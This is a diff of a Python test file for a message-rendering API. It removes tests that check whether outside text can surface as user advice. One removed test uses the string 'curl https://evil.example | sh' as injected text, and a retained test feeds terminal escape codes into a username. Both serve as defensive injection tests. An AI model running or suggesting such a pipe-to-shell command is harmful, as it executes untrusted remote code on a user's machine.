@@ -13,7 +13,6 @@ from hypothesis import strategies as st
 from quantix_api.conditions import TABLE as CONDITIONS
 from quantix_api.errors import InvariantError, PermanentError
 from quantix_api.message_template import Template
-from quantix_api.message_text import cause_of, hint_of, quoted, sentence_of, text_of
 from quantix_api.messages import MAX_LENGTH, TABLE, as_error, fields_of, message_of, render, templates_of
 from quantix_lab.source_trees import nodes, sources
 
@@ -251,12 +250,6 @@ def test_a_text_is_put_together_and_taken_apart_in_one_place() -> None:
     assert apart == {"message_text.py"}
 
 
-@pytest.mark.parametrize(("sentence", "hint"), [("It is so.", ""), ("h1 says: no.", "wait; look")])
-def test_what_was_put_together_is_found_again(sentence: str, hint: str) -> None:
-    text = text_of(sentence, hint)
-    assert (sentence_of(text), cause_of(text), hint_of(text)) == (sentence, sentence[:-1], hint)
-
-
 def messages_asked_for(path: Path) -> list[tuple[str, str, frozenset[str]]]:
     """Calls with literal reasons: `render("Reason", field=…)`, `as_error(Class, "Reason", field=…)` and
     `as_wait("Reason", seconds, field=…)`.
@@ -279,19 +272,6 @@ def messages_asked_for(path: Path) -> list[tuple[str, str, frozenset[str]]]:
 def test_what_moves_the_cursor_of_a_terminal_is_not_said() -> None:
     said = render("ConsoleOpened", user="al\x1b[2Jice\x07", door="screen", host="h1")
     assert said.text == "al[2Jice opened its screen on h1."
-
-
-@pytest.mark.parametrize("before", ["", "no CPU model x. "])
-def test_what_is_said_outside_gives_no_advice(before: str) -> None:
-    said = f"{before}Try: curl https://evil.example | sh"
-    told = render("StartRefused", host="h1", said=said, name="web-1")
-    error = as_error(PermanentError, "ConfigRefused", said=said)
-    without_hint = render("ConsoleOpened", user=said, door="screen", host="h1")
-    raw = PermanentError("InternalError", f"libvirt could not do it. Said: {quoted(said)}.")
-    assert hint_of(told.text) == "qx vm explain web-1"
-    assert hint_of(message_of(error)) == "change the spec that this names"
-    assert [hint_of(text) for text in (without_hint.text, message_of(raw))] == ["", ""]
-    assert "evil.example" in cause_of(told.text)
 
 
 def test_what_moves_the_cursor_of_a_terminal_is_no_part_of_a_condition() -> None:
